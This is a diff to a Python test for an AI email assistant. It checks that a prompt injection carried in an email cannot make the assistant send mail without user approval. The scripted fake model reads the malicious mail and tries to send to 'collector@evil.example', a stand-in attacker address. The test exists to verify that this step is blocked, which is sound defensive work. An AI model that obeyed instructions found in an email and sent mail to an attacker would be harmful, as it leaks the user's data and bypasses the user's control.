@@ -211,7 +211,7 @@ def test_prompt_injection_in_a_mail_cannot_send_anything(
     fake_llm.reply_text(thinking(None, ("gmail_read", {"message_id": evil.id})))
     fake_llm.reply_text(thinking(None, ("gmail_send", _send_args("collector@evil.example"))))  # it obeys
     result = pa("ask", "--json", "what does my latest mail say?")
-    assert result.returncode == 0, result.stderr
+    assert result.returncode == 4, result.stderr  # the turn waits for the user
     assert google.sent == []
     assert json.loads(result.stdout)["pending_approvals"]
     assert "to: collector@evil.example" in result.stderr.lower()  # the preview shows the real recipient
